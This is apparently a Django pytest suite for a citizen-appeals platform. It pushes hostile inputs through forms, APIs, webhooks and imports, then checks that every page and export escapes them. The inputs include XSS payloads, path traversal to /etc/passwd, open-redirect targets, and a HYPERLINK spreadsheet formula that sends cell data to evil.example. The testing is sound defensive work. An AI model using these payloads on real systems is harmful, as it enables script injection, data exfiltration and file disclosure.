"""The hostile corpus (issue 11, "keep it closed"): every entry point gets the same hostile texts,
then every page, export and API answer that shows them is checked.

Texts that may be taken (script tags, attribute breakers, ``javascript:`` links, SVG, RTL and
zero-width characters, formula strings, path traversal) must come out escaped or neutralized: no
raw markup in a page, no ``javascript:`` link, no live formula in a spreadsheet, valid JSON and XML.
Texts that must not (NUL, 100 KB, deep JSON, wrong types, broken UTF-8) must be a 4xx or one dead
letter. Nothing anywhere is a 5xx (the test client raises on a server error). Runs on SQLite and
PostgreSQL like the rest of the suite (.ci/run).
"""

from __future__ import annotations

import csv
import io
import json
import re
import uuid
from io import BytesIO, StringIO
from xml.etree.ElementTree import fromstring

import pytest
from django.contrib.auth import get_user_model
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from openpyxl import load_workbook
from PIL import Image

from otklik.accounts.choices import Role
from otklik.cases.models import Case
from otklik.deputies.models import Deputy
from otklik.deputies.services import make_deputy
from otklik.elections.models import Report
from otklik.elections.tests.conftest import day  # noqa: F401 (a fixture)
from otklik.intake import runner
from otklik.intake.connectors.webhook import SIGNATURE_HEADER, sign
from otklik.intake.importing import export_cur43
from otklik.intake.models import DeadLetter, Message, Source
from otklik.intake.tests.conftest import region  # noqa: F401 (a fixture)
from otklik.testing.factories import PASSWORD, make_user

pytestmark = pytest.mark.django_db
User = get_user_model()

TAIL = " — третий день во дворе дома 5 на улице Ленина в Энгельсе не вывозят мусор"
TAKEN = {
    "script": '<script>alert("corpus")</script>' + TAIL,
    "attribute": '" onmouseover="alert(1)" data-x=\'' + TAIL,
    "javascript-link": "javascript:alert(document.cookie)" + TAIL,
    "svg": "<svg/onload=alert(1)><img src=x onerror=alert(2)>" + TAIL,
    "rtl-zero-width": "\u202eтxt.exe\u200b\u200d\u2066\ufeff" + TAIL,
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"Открыть")' + TAIL,
    "path-traversal": "../../../../etc/passwd" + TAIL,
}
REFUSED = {
    "nul": "нет\x00воды" + TAIL,
    "100-kb": "яма на дороге " * 7500,
}
# What must never appear raw in a page or an API answer (the escaped form is fine).
RAW = ("<script>alert", "<svg/onload", "<img src=x", '" onmouseover="alert', "data-x='")
JS_LINK = re.compile(r"""(href|src|action)\s*=\s*["']?\s*javascript:""", re.IGNORECASE)


def appeal(**overrides: str) -> dict[str, str]:
    data = {
        "name": "Ирина Смирнова",
        "contact": "+7 (917) 123-45-67",
        "district": "",
        "address": "ул. Тельмана, 12",
        "consent": "on",
        "website": "",
        "form_token": uuid.uuid4().hex,
    }
    return {**data, **overrides}


def _public_form(client, text: str) -> int:
    cache.clear()  # the form's rate limit
    client.logout()
    return client.post("/public/appeal/", appeal(text=text, address=text[:200])).status_code


def _call_center(client, text: str) -> int:
    operator = User.objects.filter(username="corpus-operator").first() or make_user(
        Role.MODERATOR, username="corpus-operator"
    )
    client.force_login(operator)
    data = {
        "phone": "+7 927 555-12-34",
        "caller_name": text[:100],
        "transcript": text,
        "district": "",
        "address": "ул. Мира, 7",
        "form_token": uuid.uuid4().hex,
    }
    return client.post("/callcenter/", data).status_code


def _open311(client, text: str) -> int:
    cache.clear()
    if not Source.objects.filter(code="corpus-app").exists():
        out = StringIO()
        call_command("open311_client", "corpus-app", "--name", "Корпус", stdout=out)
        _open311.key = out.getvalue().strip().splitlines()[-1]  # type: ignore[attr-defined]
    data = {
        "api_key": _open311.key,  # type: ignore[attr-defined]
        "service_code": "housing-heating",
        "lat": "51.49",
        "long": "46.12",
        "description": text,
        "first_name": text[:50],
        "address_string": text[:200],
    }
    return client.post("/open311/v2/requests.json", data).status_code


def _webhook(client, text: str) -> int:
    if not Source.objects.filter(code="corpus-hook").exists():
        Source.objects.create(
            code="corpus-hook",
            name="Партнёр",
            channel="social",
            connector="webhook",
            settings={"secret_env": "OTKLIK_CORPUS_SECRET"},
        )
    item = {
        "external_id": uuid.uuid4().hex,
        "text": text,
        "posted_at": "2026-03-02T09:00:00+04:00",
        "author_name": text[:60],
        "url": "https://example.test/post/1",
    }
    body = json.dumps(item, ensure_ascii=False).encode()
    headers = {SIGNATURE_HEADER: sign("corpus-secret", body)}
    return client.post(
        "/intake/webhook/corpus-hook/", body, content_type="application/json", headers=headers
    ).status_code


def _ingest_file(client, text: str, tmp_path=None) -> int:
    path = _ingest_file.dir / f"{uuid.uuid4().hex}.jsonl"  # type: ignore[attr-defined]
    item = {
        "source": "vk-engels",
        "external_id": uuid.uuid4().hex,
        "text": text,
        "posted_at": "2026-03-02T09:00:00+04:00",
        "author_name": text[:60],
    }
    path.write_text(json.dumps(item, ensure_ascii=False) + "\n", encoding="utf-8")
    call_command("ingest", str(path), "--no-progress", stdout=StringIO(), stderr=StringIO())
    return 200


def _deputy_form(client, text: str) -> int:
    cache.clear()
    client.logout()
    if not hasattr(_deputy_form, "pk") or not Deputy.objects.filter(pk=_deputy_form.pk).exists():  # type: ignore[attr-defined]
        _deputy_form.pk = make_deputy("Иванов Пётр Сергеевич", council="Областная дума").pk  # type: ignore[attr-defined]
    return client.post(f"/deputies/{_deputy_form.pk}/", appeal(text=text, address=text[:200])).status_code  # type: ignore[attr-defined]


def _inbox(client, text: str) -> int:
    inbox = runner.inbox_dir()
    item = {
        "source": "vk-engels",
        "external_id": uuid.uuid4().hex,
        "text": text,
        "posted_at": "2026-03-02T09:00:00+04:00",
    }
    (inbox / f"{uuid.uuid4().hex}.jsonl").write_text(
        json.dumps(item, ensure_ascii=False) + "\n", encoding="utf-8"
    )
    runner.drain_inbox()
    assert not (inbox / "failed").exists()  # a hostile file is never moved aside whole
    return 200


def _import_table(client, text: str) -> int:
    """``otklik import-cases``: a CSV table, the hostile text in the text and author columns."""
    path = _ingest_file.dir / f"{uuid.uuid4().hex}.csv"  # type: ignore[attr-defined]
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["номер", "текст обращения", "дата", "фио"])
        writer.writerow([uuid.uuid4().hex, text, "2026-03-02T09:00:00+04:00", text[:60]])
    call_command("import_cases", str(path), "--source", "vk-engels", stdout=StringIO(), stderr=StringIO())
    return 200


ENTRY_POINTS = {
    "import-table": _import_table,
    "deputy-form": _deputy_form,
    "inbox": _inbox,
    "public-form": _public_form,
    "call-center": _call_center,
    "open311": _open311,
    "webhook": _webhook,
    "ingest-file": _ingest_file,
}


@pytest.fixture
def corpus_env(region, tmp_path, monkeypatch, settings):  # noqa: F811
    monkeypatch.setenv("OTKLIK_CORPUS_SECRET", "corpus-secret")
    _ingest_file.dir = tmp_path  # type: ignore[attr-defined]
    settings.VAR_DIR = tmp_path
    return region


def assert_pages_are_safe(client) -> None:
    """Every page, export and API answer that shows the stored texts: escaped, neutralized, no 5xx."""
    chief = User.objects.filter(username="corpus-chief").first() or make_user(
        Role.SUPERVISOR, username="corpus-chief"
    )
    client.force_login(chief)
    pages = [
        "/cases/",
        "/api/cases/",
        "/api/messages/",
        "/open311/v2/requests.json",
        "/open311/v2/requests.xml",
    ]
    pages += [f"/cases/{pk}/" for pk in Case.objects.values_list("pk", flat=True)]
    pages += [f"/public/problems/{n}/" for n in Case.objects.values_list("number", flat=True)]
    for url in pages:
        response = client.get(url)
        assert response.status_code < 500, url
        if response.status_code != 200:
            continue
        body = response.content.decode()
        if url.startswith("/api/") or url.endswith(".json"):
            # JSON carries the text as data: never sniffed as a page, parsed back whole
            assert response["Content-Type"].startswith("application/json"), url
            assert response.get("X-Content-Type-Options") == "nosniff", url
            json.loads(body)
            continue
        for raw in RAW:
            assert raw not in body, (url, raw)
        assert not JS_LINK.search(body), url
        if url.endswith(".xml"):
            fromstring(response.content)
    path = _ingest_file.dir / "export.xlsx"  # type: ignore[attr-defined]
    export_cur43(Case.objects.all(), path)
    for row in load_workbook(path).active.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value
    export_cur43(Case.objects.all(), path.with_suffix(".csv"))
    for row in csv.reader(path.with_suffix(".csv").open(encoding="utf-8")):
        for value in row:
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value


@pytest.mark.parametrize("entry", sorted(ENTRY_POINTS))
def test_hostile_texts_through_every_entry_point(client, corpus_env, entry):
    send = ENTRY_POINTS[entry]
    for name, text in TAKEN.items():
        status = send(client, text)
        assert status < 500, (entry, name)
    assert Message.objects.count() >= 1, entry  # the hostile texts that may be taken were taken
    for name, text in REFUSED.items():
        before = (Message.objects.count(), DeadLetter.objects.count())
        status = send(client, text)
        after = (Message.objects.count(), DeadLetter.objects.count())
        assert status < 500, (entry, name)
        assert after[0] == before[0], (entry, name)  # never stored as a message
        assert status >= 400 or after[1] == before[1] + 1, (entry, name)  # a 4xx or one dead letter
    assert_pages_are_safe(client)


@pytest.mark.parametrize(
    "body",
    [
        b"[" * 100_000 + b"]" * 100_000,
        b'{"external_id": {"id": 1}, "text": "x", "posted_at": "2026-03-02T09:00:00+04:00"}',
        b'{"external_id": "t", "text": ["a"], "posted_at": "2026-03-02T09:00:00+04:00"}',
        b'{"external_id": "n", "text": 5, "posted_at": "9999-12-31T23:59:59+14:00"}',
        b'{"external_id": "u", "text": "\xff\xfe\xfd"}',
    ],
    ids=["deep", "object-id", "list-text", "number-text", "broken-utf8"],
)
def test_malformed_bodies_to_the_webhook_and_the_api_are_4xx(client, corpus_env, body):
    _webhook(client, "warm-up" + TAIL)  # creates the source
    answer = client.post(
        "/intake/webhook/corpus-hook/",
        body,
        content_type="application/json",
        headers={SIGNATURE_HEADER: sign("corpus-secret", body)},
    )
    assert 400 <= answer.status_code < 500
    chief = make_user(Role.SUPERVISOR, username="api-chief")
    client.force_login(chief)
    api = client.post("/api/elections/reports/", body, content_type="application/json")
    assert 400 <= api.status_code < 500


def png() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), "red").save(buffer, format="PNG")
    return buffer.getvalue()


@pytest.mark.parametrize(
    "name", ["../../../etc/passwd", "..\\..\\win.ini", "evidence.html", "x.svg", "\u202egnp.exe"]
)
def test_observer_photos_with_hostile_names_and_texts(client, day, name):  # noqa: F811
    client.login(username="anna", password=PASSWORD)
    text = TAKEN["script"]
    sent = client.post(
        "/api/elections/reports/",
        {
            "kind": "violation",
            "text": text,
            "photo": SimpleUploadedFile(name, png() + b"<script>alert(1)</script>"),
        },
    )
    assert sent.status_code == 201, sent.content
    report = Report.objects.get()
    stored = report.photo.name
    assert (
        ".." not in stored and "passwd" not in stored and stored.endswith(".png") and "\u202e" not in stored
    )
    client.login(username="chief", password=PASSWORD)
    photo = client.get(f"/elections/reports/{report.pk}/photo/")
    assert photo["Content-Type"] == "image/png" and "sandbox" in photo["Content-Security-Policy"]
    for url in ("/elections/", f"/elections/incidents/{report.incident.pk}/", "/elections/incidents/"):
        body = client.get(url).content.decode()
        assert "<script>alert" not in body, url
    sheet = load_workbook(BytesIO(client.get("/elections/incidents.xlsx").content)).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_observer_reports_from_telegram_with_hostile_texts(client, day, bot):  # noqa: F811
    import time

    from otklik.cases.telegram_bot import process_updates
    from otklik.elections.models import Incident

    anna = day["anna"]
    anna.telegram_chat_id = "4242"
    anna.save()
    for text in TAKEN.values():
        bot.add_chat_message({"id": 4242, "type": "private"}, f"Нарушение: {text}", date=int(time.time()))
    bot.add_chat_message({"id": 4242, "type": "private"}, "Нарушение: нет\x00воды", date=int(time.time()))
    bot.add_file("ph-1", png() + b"<svg/onload=alert(1)>")
    bot.add_chat_message(
        {"id": 4242, "type": "private"},
        None,
        date=int(time.time()),
        caption="Нарушение: " + TAKEN["svg"],
        photo=[{"file_id": "ph-1", "width": 8, "height": 8}],
    )
    process_updates()
    assert Incident.objects.count() >= len(TAKEN)
    client.login(username="chief", password=PASSWORD)
    pages = ["/elections/", "/elections/incidents/"]
    pages += [f"/elections/incidents/{pk}/" for pk in Incident.objects.values_list("pk", flat=True)]
    for url in pages:
        response = client.get(url)
        assert response.status_code == 200, url
        body = response.content.decode()
        for raw in RAW:
            assert raw not in body, (url, raw)
        assert not JS_LINK.search(body), url
    photos = Report.objects.exclude(photo="")
    assert photos.exists()
    for report in photos:
        assert report.photo.name.endswith(".png")
        photo = client.get(f"/elections/reports/{report.pk}/photo/")
        assert photo["Content-Type"] == "image/png" and b"<svg" not in b"".join(photo.streaming_content)
    sheet = load_workbook(BytesIO(client.get("/elections/incidents.xlsx").content)).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


# --- Issue 16: the operator's day (supervisors' texts, monitoring queries, search, caller lookup, inline
# correction, the way back after an action) -----------------------------------------------------------


def _assert_safe_page(response, url: str) -> str:
    assert response.status_code < 500, url
    body = response.content.decode()
    for raw in RAW:
        assert raw not in body, (url, raw)
    assert not JS_LINK.search(body), url
    return body


@pytest.fixture
def supervised_case():
    from otklik.cases import actions
    from otklik.directory.choices import Channel
    from otklik.directory.defaults_deadlines import load_default_deadline_policies
    from otklik.testing.factories import make_agency, make_case

    load_default_deadline_policies()
    agency = make_agency("Водоканал")
    case = make_case(text="Письмо: нет воды" + TAIL, channel=Channel.OFFICIAL)
    return actions.assign_case(case, None, agency)


def test_hostile_texts_in_extensions_interim_requests_and_notes(client, supervised_case):
    """A supervisor's reason, request and note are taken as text: escaped on the card, on the queue and on
    the applicant's page (the extension's reason is published there, the note never); over-long or NUL
    texts are refused with nothing written."""
    from otklik.cases.models import CaseEvent
    from otklik.public.services import status_token

    case = supervised_case
    client.force_login(make_user(Role.SUPERVISOR, username="corpus-boss"))
    for text in TAKEN.values():
        assert client.post(f"/cases/{case.pk}/extend/", {"days": "1", "reason": text}).status_code == 302
        assert client.post(f"/cases/{case.pk}/interim/", {"hours": "4", "comment": text}).status_code == 302
        assert client.post(f"/cases/{case.pk}/note/", {"text": text}).status_code == 302
    case.refresh_from_db()
    assert case.extended_days == len(TAKEN)  # every hostile reason was taken
    events = CaseEvent.objects.filter(case=case).count()
    for text in REFUSED.values():
        for action, data in (
            ("extend", {"days": "1", "reason": text}),
            ("interim", {"hours": "4", "comment": text}),
            ("note", {"text": text}),
        ):
            status = client.post(f"/cases/{case.pk}/{action}/", data).status_code
            assert status < 500, action
    assert CaseEvent.objects.filter(case=case).count() == events  # nothing written
    case.refresh_from_db()
    assert case.extended_days == len(TAKEN)
    for url in (f"/cases/{case.pk}/", "/cases/", "/cases/?tab=all"):
        body = _assert_safe_page(client.get(url), url)
        assert "corpus" in body or url != f"/cases/{case.pk}/"  # the card shows the (escaped) texts
    client.logout()
    url = f"/public/status/{case.number}/{status_token(case)}/"
    body = _assert_safe_page(client.get(url), url)
    assert "продлён" in body or "продлено" in body  # the extension's notice is on the applicant's page
    assert "/etc/passwd" in body  # its (escaped) reason too
    _assert_safe_page(client.get(f"/public/problems/{case.number}/"), "problem")


def test_hostile_monitoring_queries_and_previews(client, region):  # noqa: F811
    """A moderator's query name and text (and a preview of an unsaved one) are shown escaped on the list,
    the edit page and the preview; a query too long or with NUL is refused; nothing is a 5xx."""
    from otklik.intake.models import MonitoringQuery

    client.force_login(make_user(Role.MODERATOR, username="corpus-monitor"))
    for name, text in TAKEN.items():
        # a hostile name with a valid query is saved; a hostile query is saved or refused as a syntax error
        named = client.post(
            "/intake/monitoring/new/", {"name": text[:200], "query": "мусор", "is_active": "on"}
        )
        assert named.status_code == 302, name
        answer = client.post("/intake/monitoring/new/", {"name": f"Корпус {name}", "query": text})
        assert answer.status_code in (302, 400), name
        _assert_safe_page(answer, f"query {name}")
        preview = client.post("/intake/monitoring/preview/", {"query": text, "last": "200"})
        _assert_safe_page(preview, f"preview {name}")
    saved = list(MonitoringQuery.objects.values_list("pk", flat=True))
    assert len(saved) >= len(TAKEN)  # the hostile names were taken
    for name, text in REFUSED.items():
        before = MonitoringQuery.objects.count()
        answer = client.post("/intake/monitoring/new/", {"name": "Корпус " + name, "query": text})
        assert answer.status_code < 500 and MonitoringQuery.objects.count() == before, name
        assert client.post("/intake/monitoring/preview/", {"query": text}).status_code < 500, name
    for url in ["/intake/monitoring/", *(f"/intake/monitoring/{pk}/" for pk in saved)]:
        _assert_safe_page(client.get(url), url)


def test_hostile_search_and_caller_lookup_are_reflected_escaped(client, supervised_case):
    """What an operator types into the queue's search or the call center's caller lookup comes back in
    the page (the search box, "nothing found for …") escaped; NUL is a 400; nothing is a 5xx."""
    client.force_login(make_user(Role.CALL_OPERATOR, username="corpus-caller"))
    for name, text in TAKEN.items():
        _assert_safe_page(client.get("/callcenter/", {"caller": text}), f"caller {name}")
        _assert_safe_page(client.get("/callcenter/", {"caller": "+7 " + text}), f"caller phone {name}")
    assert client.get("/callcenter/", {"caller": REFUSED["nul"]}).status_code == 400
    assert client.get("/callcenter/", {"caller": REFUSED["100-kb"]}).status_code < 500
    client.force_login(make_user(Role.MODERATOR, username="corpus-searcher"))
    for name, text in TAKEN.items():
        for tab in ("all", "moderation"):
            _assert_safe_page(client.get("/cases/", {"q": text, "tab": tab}), f"queue {name}")
            answer = client.get("/cases/", {"q": text, "tab": tab}, headers={"HX-Request": "true"})
            _assert_safe_page(answer, f"queue htmx {name}")
    assert client.get("/cases/", {"q": REFUSED["nul"]}).status_code == 400
    assert client.get("/cases/", {"q": REFUSED["100-kb"]}).status_code < 500


@pytest.mark.parametrize(
    "value", ["1 OR 1=1", "../../etc/passwd", "-1", "99999999999999999999", "<script>", "1.5", ""]
)
def test_hostile_values_in_an_inline_correction_change_nothing(client, supervised_case, value):
    """The queue's inline correction takes ids from its selects: anything else is a form error shown in
    the row (200/400), never a 5xx, and the case keeps its category, territory and agency."""
    case = supervised_case
    kept = (case.category_id, case.territory_id, case.agency_id)
    client.force_login(make_user(Role.MODERATOR, username="corpus-inline"))
    data = {"category": value, "territory": value, "agency": value, "next": "/cases/"}
    answer = client.post(f"/cases/{case.pk}/inline/", data, headers={"HX-Request": "true"})
    assert answer.status_code < 500
    _assert_safe_page(answer, "inline")
    case.refresh_from_db()
    if value:  # an empty form is a correction to nothing: it may be refused or may clear nothing
        assert (case.category_id, case.territory_id, case.agency_id) == kept


@pytest.mark.parametrize(
    "back",
    [
        "https://evil.example/",
        "//evil.example/cases/",
        "javascript:alert(1)",
        "/\\evil.example",
        "http:/evil",
    ],
)
def test_the_way_back_after_an_action_never_leaves_the_site(client, supervised_case, back):
    """The ``next`` field of the queue's inline correction and of a reply's retry is a place on this site
    only: a hostile one sends back to the queue or the card, never elsewhere."""
    from otklik.cases.choices import CaseStatus
    from otklik.testing.factories import make_case, make_category

    waiting = make_case(text="Яма на дороге" + TAIL, status=CaseStatus.MODERATION)
    category = make_category("Дороги")
    client.force_login(make_user(Role.SUPERVISOR, username="corpus-back"))
    answer = client.post(f"/cases/{waiting.pk}/inline/", {"category": str(category.pk), "next": back})
    assert answer.status_code == 302  # the correction is made (no HTMX: a redirect) ...
    assert answer["Location"] == "/cases/"  # ... back to the queue, not to the hostile place
    waiting.refresh_from_db()
    assert waiting.category_id == category.pk
    answer = client.post(f"/cases/{supervised_case.pk}/replies/1/retry/", {"next": back})
    assert answer.status_code == 404  # no such reply of this case: refused before anything else
